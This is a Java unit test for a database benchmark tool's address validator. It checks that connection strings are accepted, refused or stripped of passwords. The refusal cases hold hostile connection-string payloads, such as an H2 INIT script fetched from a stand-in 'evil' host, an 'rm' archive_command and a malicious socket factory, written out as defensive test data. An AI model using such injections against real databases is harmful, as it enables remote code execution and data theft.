package io.plimsoll.app.setup;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class DefaultTargetTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "postgres://me@db/bench",
                "postgres://me@db:5433/bench?sslmode=verify-full&application_name=x",
                "postgres:embedded",
                "postgres:embedded?data=/tmp/pg",
                "h2:mem",
                "sqlite:/tmp/a b/x.db?synchronous=normal",
                "jdbc:sqlserver://db:1433;databaseName=bench;encrypt=true",
                "jdbc:mariadb://db:3306/bench",
                "dynamodb:us-east-1",
                "null:1k"
            })
    void addressesThatOnlyNameAPlaceAreTaken(String address) {
        assertThat(DefaultTarget.refusal(address)).isEmpty();
        assertThat(DefaultTarget.withoutPassword(address)).isEqualTo(address);
    }

    /// Code or statements that come with an address.
    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql' | init",
                "h2:file:/tmp/x?INIT=CREATE | init",
                "postgres:embedded?archive_command=rm | archive_command",
                "postgres:embedded?data=/tmp/x&shared_preload_libraries=evil | shared_preload_libraries",
                "jdbc:postgresql://db/x?socketFactory=evil.Factory | socketfactory",
                "jdbc:mariadb://db/x?allowLocalInfile=true | allowlocalinfile",
            })
    void parametersThatMayExecuteAnythingAreRefused(String address, String name) {
        assertThat(DefaultTarget.refusal(address).orElseThrow()).containsAnyOf(name, "holds a password");
    }

    @ParameterizedTest
    @CsvSource({
        "postgres://me:geheim@db/bench, postgres://me@db/bench",
        "postgres://db/bench?user=me&password=geheim, postgres://db/bench?user=me",
        "postgres://db/bench?password=geheim&sslmode=require, postgres://db/bench?sslmode=require",
        "jdbc:sqlserver://db;password=geheim;databaseName=x, jdbc:sqlserver://db;databaseName=x",
        "jdbc:oracle:thin:me/geheim@db:1521, jdbc:oracle:thin:me/***@db:1521",
    })
    void passwordsAreTakenOut(String address, String without) {
        assertThat(DefaultTarget.withoutPassword(address)).isEqualTo(without).doesNotContain("geheim");
        assertThat(DefaultTarget.refusal(address).orElseThrow())
                .contains("PLIMSOLL_PASSWORD")
                .doesNotContain("geheim");
    }
}
